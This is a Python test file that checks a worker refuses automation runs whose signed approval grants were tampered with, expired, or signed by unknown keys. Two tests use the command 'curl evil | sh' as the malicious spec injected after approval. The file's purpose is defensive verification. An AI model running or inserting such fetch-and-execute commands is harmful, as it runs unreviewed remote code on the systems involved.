"""The pull worker executes a run under approval only when its signed grant matches it."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from typing import Any

import attrs
import pytest

from adapters.crypto.grants import Ed25519GrantVerifier, Ed25519KeyRing, GrantKey
from adapters.memory.coordinator import InMemoryCoordinator
from adapters.memory.runner import InMemoryRunner, Script
from adapters.system import SystemClock, UlidIdGenerator
from domain.approvals import Approval, ApprovalResponse, ApprovalStatus, Verdict
from domain.automations import Run, RunStatus, new_run
from domain.grants import (
    SignedGrant,
    decode_signed,
    encode_grant,
    encode_signed,
    grant_for,
)
from domain.resources import AutomationSpec, Phase
from domain.services.grants import sign_grant_for
from domain.services.handover import seal_secrets
from entrypoints.worker import PullWorker, WorkerOptions
from tests.entrypoints.test_worker_protocol import Stack, stack, stored

__all__ = ["stack"]  # the worker API fixture, shared with the protocol tests

CLOCK = SystemClock()
IDS = UlidIdGenerator(CLOCK)
SPEC = AutomationSpec(phases=(Phase("deploy", "busybox", ("echo $TARGET",)),))
ENV = {"TARGET": "prod", "PASSWORD": "hunter2"}


def approved(ring: Ed25519KeyRing, spec: AutomationSpec = SPEC, **ttl: float) -> Run:
    run, _ = new_run(
        IDS.new_id(),
        spec,
        CLOCK.now(),
        name="deploy",
        org_id="org-a",
        template_id="tpl-1",
        template_version=2,
        variables={"target": "prod", "password": "***"},
    )
    grant = grant_for(
        run,
        ENV,
        ["alice"],
        approval_id="ap-1",
        key_id=ring.key_id,
        at=CLOCK.now(),
        ttl=timedelta(seconds=ttl.get("seconds", 3600)),
    )
    return attrs.evolve(run, grant=encode_signed(ring.sign(grant)))


async def outcome(
    run: Run,
    verifier: Ed25519GrantVerifier | None,
    *,
    env: dict[str, str] = ENV,
    require: bool = False,
) -> tuple[tuple[RunStatus, str] | None, InMemoryRunner]:
    coordinator = InMemoryCoordinator(IDS, CLOCK, lease_seconds=5)
    coordinator.offer(run, env=env, secret_env=("PASSWORD",))
    runner = InMemoryRunner({"deploy": Script(lines=("deploying {TARGET}",))})

    async def runner_for(spec: AutomationSpec) -> InMemoryRunner:
        return runner

    worker = PullWorker(
        coordinator,
        runner_for,
        CLOCK,
        WorkerOptions(claim_wait=0.2),
        grants=verifier,
        require_grants=require,
    )
    stop = asyncio.Event()
    task = asyncio.create_task(worker.run(stop))
    deadline = asyncio.get_running_loop().time() + 10
    while coordinator.completion(run.id) is None:
        assert asyncio.get_running_loop().time() < deadline, "timed out waiting"
        await asyncio.sleep(0.01)
    stop.set()
    await task
    return coordinator.completion(run.id), runner


@pytest.fixture
def ring() -> Ed25519KeyRing:
    return Ed25519KeyRing([GrantKey.generate(CLOCK.now())])


async def test_a_run_with_a_valid_grant_executes(ring: Ed25519KeyRing) -> None:
    ended, runner = await outcome(approved(ring), ring.verifier())
    assert ended == (RunStatus.SUCCEEDED, "")
    assert [job.phase.name for job in runner.jobs] == ["deploy"]


async def test_a_grant_tampered_with_in_the_queue_is_refused(ring: Ed25519KeyRing) -> None:
    run = approved(ring)
    signed = decode_signed(run.grant)
    widened = attrs.evolve(signed.grant, approver_ids=("alice", "mallory"))
    tampered = attrs.evolve(run, grant=encode_signed(SignedGrant(widened, signed.signature)))
    ended, runner = await outcome(tampered, ring.verifier())
    assert ended == (RunStatus.FAILED, "the signature does not verify: the grant was altered")
    assert runner.jobs == []


async def test_a_spec_changed_after_approval_is_refused(ring: Ed25519KeyRing) -> None:
    run = approved(ring)
    changed = AutomationSpec(phases=(Phase("deploy", "busybox", ("curl evil | sh",)),))
    ended, runner = await outcome(attrs.evolve(run, spec=changed), ring.verifier())
    assert ended == (RunStatus.FAILED, "grant does not match: content hash differs")
    assert runner.jobs == []


async def test_a_template_version_changed_after_approval_is_refused(
    ring: Ed25519KeyRing,
) -> None:
    run = attrs.evolve(approved(ring), template_version=3)
    ended, runner = await outcome(run, ring.verifier())
    assert ended is not None
    assert ended[0] is RunStatus.FAILED
    assert ended[1].startswith("grant does not match: template version differs")
    assert runner.jobs == []


async def test_variables_changed_after_approval_are_refused(ring: Ed25519KeyRing) -> None:
    ended, runner = await outcome(approved(ring), ring.verifier(), env={**ENV, "PASSWORD": "other"})
    assert ended == (RunStatus.FAILED, "grant does not match: variables hash differs")
    assert runner.jobs == []


async def test_a_grant_for_another_run_is_refused(ring: Ed25519KeyRing) -> None:
    other = approved(ring)
    run = attrs.evolve(approved(ring), grant=other.grant)
    ended, _ = await outcome(run, ring.verifier())
    assert ended == (
        RunStatus.FAILED,
        f"grant does not match: it is for run {other.id}, not {run.id}",
    )


async def test_an_expired_grant_is_refused(ring: Ed25519KeyRing) -> None:
    ended, _ = await outcome(approved(ring, seconds=-1), ring.verifier())
    assert ended is not None
    assert ended[0] is RunStatus.FAILED
    assert ended[1].startswith("grant expired at ")


async def test_a_grant_signed_by_a_key_that_is_not_pinned_is_refused(
    ring: Ed25519KeyRing,
) -> None:
    stranger = Ed25519KeyRing([GrantKey.generate(CLOCK.now())])
    ended, _ = await outcome(approved(stranger), ring.verifier())
    assert ended is not None
    assert ended[1].startswith(f"unknown key {stranger.key_id}")


async def test_a_worker_without_pinned_keys_refuses_a_run_that_carries_a_grant(
    ring: Ed25519KeyRing,
) -> None:
    ended, _ = await outcome(approved(ring), None)
    assert ended == (
        RunStatus.FAILED,
        "the run carries an approval grant but this worker pins no approver key",
    )


async def test_a_run_without_an_approval_policy_needs_no_grant(ring: Ed25519KeyRing) -> None:
    run = attrs.evolve(approved(ring), grant="")
    ended, _ = await outcome(run, ring.verifier())
    assert ended == (RunStatus.SUCCEEDED, "")
    ended, _ = await outcome(attrs.evolve(run, id=IDS.new_id()), ring.verifier(), require=True)
    assert ended == (
        RunStatus.FAILED,
        "the run carries no approval grant and this worker requires one",
    )


def test_the_signature_covers_the_canonical_bytes(ring: Ed25519KeyRing) -> None:
    signed = decode_signed(approved(ring).grant)
    ring.current.public.verify(signed.signature, encode_grant(signed.grant))


# ------------------------------------------------------------------ over the worker API


async def queue_approved(
    s: Stack, ring: Ed25519KeyRing, *, tamper: dict[str, Any] | None = None
) -> Run:
    from domain.services.dispatch import announce

    now = s.clock.now()
    run, _ = new_run(
        s.p.ids.new_id(),
        SPEC,
        now,
        name="deploy",
        org_id="org-a",
        template_id="tpl-1",
        template_version=2,
        requested_by="bob",
        variables={"target": "prod", "password": "***"},
        sealed_secrets=seal_secrets(s.p.sealer, {"password": "hunter2"}),
    )
    approval = Approval(
        id="ap-1",
        run_id=run.id,
        requested_by="bob",
        quorum=1,
        expires_at=now + timedelta(hours=1),
        created_at=now,
        status=ApprovalStatus.APPROVED,
        responses=(ApprovalResponse("alice", Verdict.APPROVE, now),),
    )
    run = sign_grant_for(run, approval, ring, s.p.sealer, now)
    run = attrs.evolve(run, **(tamper or {}))
    async with s.p.uow() as uow:
        await uow.runs.add(run)
        await announce(uow, s.p.ids, run, now)
        await uow.commit()
    return run


async def executed_over_http(
    s: Stack, run: Run, verifier: Ed25519GrantVerifier
) -> tuple[Run, InMemoryRunner]:
    runner = InMemoryRunner({"deploy": Script(lines=("deploying {TARGET}",))})

    async def runner_for(spec: AutomationSpec) -> InMemoryRunner:
        return runner

    client = s.client()
    worker = PullWorker(client, runner_for, s.clock, WorkerOptions(claim_wait=1), grants=verifier)
    stop = asyncio.Event()
    task = asyncio.create_task(worker.run(stop))
    for _ in range(250):
        if (await stored(s, run.id)).status.terminal:
            break
        await asyncio.sleep(0.02)
    stop.set()
    await asyncio.wait_for(task, 10)
    await client.aclose()
    return await stored(s, run.id), runner


async def test_an_approved_run_executes_over_http(stack: Stack, ring: Ed25519KeyRing) -> None:
    run = await queue_approved(stack, ring)
    assert decode_signed(run.grant).grant.approver_ids == ("alice",)
    ended, runner = await executed_over_http(stack, run, ring.verifier())
    assert ended.status is RunStatus.SUCCEEDED
    assert runner.jobs[0].env == {"TARGET": "prod", "PASSWORD": "hunter2"}


async def test_a_run_changed_in_the_store_after_approval_fails_over_http(
    stack: Stack, ring: Ed25519KeyRing
) -> None:
    changed = AutomationSpec(phases=(Phase("deploy", "busybox", ("curl evil | sh",)),))
    run = await queue_approved(stack, ring, tamper={"spec": changed})
    ended, runner = await executed_over_http(stack, run, ring.verifier())
    assert (ended.status, ended.reason) == (
        RunStatus.FAILED,
        "grant does not match: content hash differs",
    )
    assert runner.jobs == []


async def test_secrets_changed_in_the_store_after_approval_fail_over_http(
    stack: Stack, ring: Ed25519KeyRing
) -> None:
    resealed = seal_secrets(stack.p.sealer, {"password": "changed"})
    run = await queue_approved(stack, ring, tamper={"sealed_secrets": resealed})
    ended, runner = await executed_over_http(stack, run, ring.verifier())
    assert (ended.status, ended.reason) == (
        RunStatus.FAILED,
        "grant does not match: variables hash differs",
    )
    assert runner.jobs == []
